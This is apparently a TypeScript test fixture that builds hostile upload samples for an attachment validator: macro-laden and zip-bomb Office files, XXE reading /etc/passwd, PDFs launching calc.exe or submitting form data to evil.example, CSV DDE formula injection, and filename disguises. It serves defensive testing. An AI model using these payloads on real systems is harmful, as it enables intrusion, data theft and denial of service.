import { deflateSync } from 'node:zlib'
import type { FileProblem } from '#app/domain/attachment.ts'
import {
  excelParts,
  joined,
  officeType,
  pdf,
  photo,
  rels,
  slideParts,
  wordParts,
  zipped,
} from './small-files.ts'

/** A file that somebody with bad intentions could send, and why it is refused; `neutralised`: kept, and harmless. */
export interface Hostile {
  what: string
  name: string
  bytes: Uint8Array
  end: FileProblem | 'neutralised'
}

const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
const html = '<!doctype html><html><body><script>alert(1)</script></body></html>'
const program = joined('MZ\x90\0\x03', new Uint8Array(200))
const elf = joined('\x7fELF\x02\x01\x01', new Uint8Array(200))
const oldOffice = joined(Buffer.from('d0cf11e0a1b11ae1', 'hex'), new Uint8Array(2_048))
const zeros = (megabytes: number) => new Uint8Array(megabytes * 1024 * 1024)

export async function hostileFiles(): Promise<Hostile[]> {
  return [...(await office()), ...(await images()), ...pdfs(), ...tables(), ...(await disguises())]
}

async function office(): Promise<Hostile[]> {
  const word = (what: string, more: Parameters<typeof zipped>[0], end: Hostile['end']) =>
    zipped({ ...wordParts(), ...more }).then((bytes) => ({ what, name: 'report.docx', bytes, end }))
  const external = (type: string) =>
    rels(
      `<Relationship Id="r9" Type="${officeType}/${type}" Target="https://evil.example/x" TargetMode="External"/>`,
    )
  const bomb = await zipped({ 'a.bin': zeros(200) })
  const manyParts = Object.fromEntries(Array.from({ length: 4_000 }, (_, n) => [`word/p${n}.xml`, '<a/>']))
  const plain = await zipped(wordParts())
  const locked = Buffer.from(await zipped(wordParts()))
  for (const signature of ['504b0304', '504b0102']) {
    const offset = signature === '504b0304' ? 6 : 8
    for (
      let at = locked.indexOf(signature, 0, 'hex');
      at !== -1;
      at = locked.indexOf(signature, at + 1, 'hex')
    ) {
      locked[at + offset] = 1
    }
  }
  return [
    await word('a macro project', { 'word/vbaProject.bin': 'x' }, 'file-has-macros'),
    await word('macro data', { 'word/vbaData.xml': '<a/>' }, 'file-has-macros'),
    await word('an ActiveX control', { 'word/activeX/activeX1.xml': '<a/>' }, 'file-has-macros'),
    await word(
      'types of a macro file',
      {
        '[Content_Types].xml':
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      },
      'file-has-macros',
    ),
    await word('a program inside', { 'word/media/run.exe': program }, 'file-holds-objects'),
    await word('a program called a picture', { 'word/media/image1.png': program }, 'file-holds-objects'),
    await word('a script inside', { 'word/run.vbs': 'x' }, 'file-holds-objects'),
    await word('an archive inside', { 'word/embeddings/more.zip': plain }, 'file-holds-objects'),
    await word('an archive called a picture', { 'word/media/image1.png': plain }, 'file-holds-objects'),
    await word('an OLE object', { 'word/embeddings/oleObject1.bin': oldOffice }, 'file-holds-objects'),
    await word(
      'a bomb inside a chart’s workbook',
      { 'word/embeddings/Book1.xlsx': bomb },
      'file-unpacks-too-large',
    ),
    await word('a bomb of one part', { 'word/media/image1.bmp': zeros(100) }, 'file-unpacks-too-large'),
    await word(
      'a bomb of many parts',
      Object.fromEntries(Array.from({ length: 80 }, (_, n) => [`word/media/i${n}.bmp`, zeros(2).fill(n)])),
      'file-unpacks-too-large',
    ),
    await word('more parts than any document', manyParts, 'file-unpacks-too-large'),
    await word(
      'XML that grows',
      {
        'word/document.xml':
          '<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>',
      },
      'file-damaged',
    ),
    await word(
      'XML that reads files',
      { 'word/document.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' },
      'file-damaged',
    ),
    await word(
      'XML in UTF-16',
      { 'word/document.xml': Buffer.from('\uFEFF<a/>', 'utf16le') },
      'file-damaged',
    ),
    await word(
      'a template elsewhere',
      { 'word/_rels/settings.xml.rels': external('attachedTemplate') },
      'file-reaches-out',
    ),
    await word(
      'a picture elsewhere',
      { 'word/_rels/document.xml.rels': external('image') },
      'file-reaches-out',
    ),
    await word(
      'an object elsewhere',
      { 'word/_rels/document.xml.rels': external('oleObject') },
      'file-reaches-out',
    ),
    await word('a name that leads out', { '../../../etc/cron.d/x.xml': '<a/>' }, 'file-damaged'),
    await word('a name from the root', { '/etc/passwd.xml': '<a/>' }, 'file-damaged'),
    await word('a name with backslashes', { '..\\..\\x.xml': '<a/>' }, 'file-damaged'),
    await word('a NUL in a name', { 'word/a\0.xml': '<a/>' }, 'file-damaged'),
    { what: 'a password', name: 'report.docx', bytes: new Uint8Array(locked), end: 'file-locked' },
    { what: 'an old office file', name: 'report.docx', bytes: oldOffice, end: 'file-locked' },
    { what: 'cut off', name: 'report.docx', bytes: plain.slice(0, -30), end: 'file-damaged' },
    { what: 'something after it', name: 'report.docx', bytes: joined(plain, html), end: 'file-damaged' },
    {
      what: 'something before it',
      name: 'report.docx',
      bytes: joined(html, plain),
      end: 'file-is-not-its-kind',
    },
    { what: 'a spreadsheet by name only', name: 'a.xlsx', bytes: plain, end: 'file-is-not-its-kind' },
    {
      what: 'any archive',
      name: 'a.docx',
      bytes: await zipped({ 'a.xml': '<a/>' }),
      end: 'file-is-not-its-kind',
    },
    {
      what: 'an Excel 4 macro sheet',
      name: 'a.xlsx',
      bytes: await zipped({ ...excelParts(), 'xl/macrosheets/sheet1.xml': '<a/>' }),
      end: 'file-has-macros',
    },
    {
      what: 'slides with macros',
      name: 'a.pptx',
      bytes: await zipped({ ...slideParts(), 'ppt/vbaProject.bin': 'x' }),
      end: 'file-has-macros',
    },
    { what: 'a Word file that may hold macros', name: 'a.docm', bytes: plain, end: 'file-kind-not-taken' },
  ]
}

async function images(): Promise<Hostile[]> {
  const jpeg = await photo('jpeg', 400, 300)
  const png = await photo('png', 400, 300)
  const otherJpeg = await photo('jpeg', 300, 200)
  return [
    { what: '400 megapixels', name: 'a.png', bytes: hugePng(20_000, 20_000), end: 'image-too-large' },
    {
      what: 'a strip as wide as a country',
      name: 'a.png',
      bytes: hugePng(2_000_000_000, 1),
      end: 'file-damaged',
    },
    { what: 'cut off', name: 'a.jpg', bytes: jpeg.slice(0, jpeg.length / 2), end: 'file-damaged' },
    { what: 'cut off', name: 'a.png', bytes: png.slice(0, png.length / 2), end: 'file-damaged' },
    {
      what: 'only a beginning',
      name: 'a.webp',
      bytes: joined('RIFF\x10\0\0\0WEBPVP8 '),
      end: 'file-damaged',
    },
    { what: 'a JPEG called PNG', name: 'a.png', bytes: jpeg, end: 'file-is-not-its-kind' },
    {
      what: 'an archive behind it',
      name: 'a.jpg',
      bytes: joined(jpeg, await zipped({ 'x.exe': program })),
      end: 'neutralised',
    },
    { what: 'a page behind it', name: 'a.png', bytes: joined(png, html), end: 'neutralised' },
    { what: 'a program behind it', name: 'a.jpg', bytes: joined(otherJpeg, program), end: 'neutralised' },
    {
      what: 'a GIF called JPG',
      name: 'a.jpg',
      bytes: joined('GIF89a\x01\0\x01\0\0\0\0;'),
      end: 'file-is-not-its-kind',
    },
    { what: 'SVG called PNG', name: 'a.png', bytes: joined(svg), end: 'file-is-not-its-kind' },
    { what: 'SVG', name: 'a.svg', bytes: joined(svg), end: 'file-kind-not-taken' },
  ]
}

/** A picture whose head promises that many pixels; each row is empty, so that it packs into almost nothing. */
function hugePng(width: number, height: number): Uint8Array {
  const chunk = (type: string, content: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), content])
    const length = Buffer.alloc(4)
    length.writeUInt32BE(content.length)
    const crc = Buffer.alloc(4)
    crc.writeUInt32BE(crcOf(body))
    return Buffer.concat([length, body, crc])
  }
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  const rows = deflateSync(Buffer.alloc(Math.min(50_000_000, (Math.ceil(width / 8) + 1) * height)))
  const signature = Buffer.from('89504e470d0a1a0a', 'hex')
  return joined(signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0)))
}

function crcOf(bytes: Buffer): number {
  let crc = 0xffffffff
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1
  }
  return (crc ^ 0xffffffff) >>> 0
}

function pdfs(): Hostile[] {
  const of = (what: string, more: Parameters<typeof pdf>[1], end: Hostile['end']) => ({
    what,
    name: 'a.pdf',
    bytes: pdf('Words', more),
    end,
  })
  const hidden = deflateSync('7 0 << /S /Launch /F (calc.exe) >>').toString('latin1')
  return [
    of('starts a program', { catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }, 'file-runs-something'),
    of(
      'starts one by another spelling',
      { catalog: '/OpenAction << /S /L#61unch /F (calc.exe) >>' },
      'file-runs-something',
    ),
    of(
      'starts one in a packed object',
      {
        objects: [
          `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n${hidden}\nendstream`,
        ],
      },
      'file-runs-something',
    ),
    of(
      'runs a script',
      { catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' },
      'file-runs-something',
    ),
    of(
      'sends what is typed',
      { catalog: '/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>' },
      'file-runs-something',
    ),
    of('an XFA form', { catalog: '/AcroForm << /XFA [] >>' }, 'file-runs-something'),
    of('a film', { catalog: '/A << /S /RichMediaExecute /RichMedia 1 >>' }, 'file-runs-something'),
    of('a file inside', { catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }, 'file-holds-objects'),
    of('a password', { trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 >>' }, 'file-locked'),
    { what: 'cut off', name: 'a.pdf', bytes: pdf().slice(0, 300), end: 'file-damaged' },
    { what: 'only a head', name: 'a.pdf', bytes: joined('%PDF-1.7\n%%EOF'), end: 'file-damaged' },
    { what: 'a page behind it', name: 'a.pdf', bytes: joined(pdf(), html), end: 'file-damaged' },
    { what: 'a page before it', name: 'a.pdf', bytes: joined(html, pdf()), end: 'file-is-not-its-kind' },
    {
      what: 'pages that are each other’s parents',
      name: 'a.pdf',
      bytes: joined(Buffer.from(pdf()).toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]')),
      end: 'file-damaged',
    },
  ]
}

function tables(): Hostile[] {
  const of = (what: string, text: string | Uint8Array, end: Hostile['end']) => ({
    what,
    name: 'a.csv',
    bytes: joined(text),
    end,
  })
  return [
    of('a page', html, 'file-is-not-its-kind'),
    of('a page in a cell', `name,note\na,"${svg}"\n`, 'file-is-not-its-kind'),
    of('a formula', 'a,b\n1,=1+2\n', 'file-has-formulas'),
    of('a command', `a,b\n1,"=cmd|' /C calc'!A0"\n`, 'file-has-formulas'),
    of('a formula with @', 'a,b\n1,@SUM(A1)\n', 'file-has-formulas'),
    of('a formula with +', 'a,b\n1,+A1+A2\n', 'file-has-formulas'),
    of('a NUL', 'a,b\n1,\0\n', 'file-is-not-its-kind'),
    of('a program', program, 'file-is-not-its-kind'),
    of('a quotation without an end', `a,b\n"${'x'.repeat(500_000)}`, 'file-damaged'),
    of('nothing but empty lines', '\n\n\n', 'file-is-not-its-kind'),
  ]
}

async function disguises(): Promise<Hostile[]> {
  const of = (what: string, name: string, bytes: Uint8Array | string, end: Hostile['end']) => ({
    what,
    name,
    bytes: joined(bytes),
    end,
  })
  return [
    of('a program called PDF', 'a.pdf', program, 'file-is-not-its-kind'),
    of('a Linux program called Word', 'a.docx', elf, 'file-is-not-its-kind'),
    of('a program', 'a.exe', program, 'file-kind-not-taken'),
    of('two endings', 'a.pdf.exe', program, 'file-kind-not-taken'),
    of('a reversed name', 'a\u202Efdp.exe', program, 'file-kind-not-taken'),
    of('a NUL that hides the ending', 'a.exe\0.pdf', program, 'file-is-not-its-kind'),
    of('a page', 'a.html', html, 'file-kind-not-taken'),
    of('a page called PDF', 'a.pdf', html, 'file-is-not-its-kind'),
    of('an archive', 'a.zip', await zipped({ a: 'a' }), 'file-kind-not-taken'),
    of('a shell script called CSV', 'a.csv', '#!/bin/sh\nrm -rf /tmp/x <svg', 'file-is-not-its-kind'),
    of('names that lead out', '../../../../etc/passwd', 'x', 'file-kind-not-taken'),
    of('no name', '.pdf', html, 'file-is-not-its-kind'),
  ]
}
